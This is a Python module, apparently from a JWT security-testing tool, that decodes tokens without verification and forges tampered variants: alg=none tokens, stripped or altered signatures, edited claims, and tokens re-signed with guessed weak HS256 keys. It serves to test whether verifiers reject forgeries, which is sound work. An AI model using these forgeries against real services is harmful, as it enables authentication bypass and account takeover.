"""Reading JWTs without trusting them, and forging the tampered variants the attack scenarios send."""

from __future__ import annotations

import base64
import json
import warnings
from typing import Any

import jwt
from jwt.warnings import InsecureKeyLengthWarning


def looks_like_jwt(token: str) -> bool:
    parts = token.split(".")
    if len(parts) != 3:
        return False
    try:
        header = decode_segment(parts[0])
    except ValueError:
        return False
    return isinstance(header, dict) and "alg" in header


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def decode_segment(segment: str) -> Any:
    try:
        raw = base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))
        return json.loads(raw)
    except (ValueError, UnicodeDecodeError) as exc:
        raise ValueError(f"not a base64url JSON segment: {exc}") from None


def header(token: str) -> dict[str, Any]:
    return jwt.get_unverified_header(token)


def payload(token: str) -> dict[str, Any]:
    return jwt.decode(
        token,
        options={
            "verify_signature": False,
            "verify_exp": False,
            "verify_iat": False,
            "verify_nbf": False,
            "verify_aud": False,
        },
    )


def lifetime(token: str) -> int | None:
    """exp - iat in seconds, or None where either claim is missing."""
    claims = payload(token)
    if isinstance(claims.get("exp"), int | float) and isinstance(claims.get("iat"), int | float):
        return int(claims["exp"] - claims["iat"])
    return None


def _encode(head: dict[str, Any], body: dict[str, Any]) -> str:
    return ".".join(
        [
            b64url(json.dumps(head, separators=(",", ":")).encode()),
            b64url(json.dumps(body, separators=(",", ":")).encode()),
        ]
    )


def alg_none(token: str, alg: str = "none") -> str:
    """The same claims with alg set to a spelling of "none" and no signature (RFC 8725 §2.1)."""
    head = {**header(token), "alg": alg}
    return _encode(head, payload(token)) + "."


def strip_signature(token: str) -> str:
    head, body, _sig = token.split(".")
    return f"{head}.{body}."


def alter_signature(token: str) -> str:
    head, body, sig = token.split(".")
    raw = bytearray(base64.urlsafe_b64decode(sig + "=" * (-len(sig) % 4)) or b"\0")
    raw[len(raw) // 2] ^= 0x01
    return f"{head}.{body}.{b64url(bytes(raw))}"


def edit_claims(token: str, **changes: Any) -> str:
    """Claims edited, original signature kept: a verifier that checks signatures must refuse it."""
    head, _body, sig = token.split(".")
    body = {**payload(token), **changes}
    return f"{head}.{b64url(json.dumps(body, separators=(',', ':')).encode())}.{sig}"


GUESSED_KEYS = ("secret", "changeme", "your-256-bit-secret")


def resign(token: str, key: str = "secret", **changes: Any) -> str:
    """Claims (optionally edited) re-signed with HS256 and a guessed key."""
    body = {**payload(token), **changes}
    with warnings.catch_warnings():
        # Short keys are the point of this attack.
        warnings.simplefilter("ignore", InsecureKeyLengthWarning)
        return jwt.encode(body, key, algorithm="HS256", headers={"typ": "JWT"})
